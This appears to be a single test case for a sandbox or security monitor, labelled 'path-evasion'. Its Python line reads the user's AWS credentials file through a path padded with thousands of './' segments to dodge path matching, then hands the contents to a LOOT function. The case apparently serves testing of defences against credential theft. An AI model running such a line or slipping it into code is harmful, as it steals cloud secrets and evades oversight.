#: {"class": "path-evasion", "loader": "script", "expect": [["open", "credentials$"]], "effect": {"loot": "aws"}}
os.chdir(HOME); LOOT(open("./" * 2030 + ".aws/credentials").read())
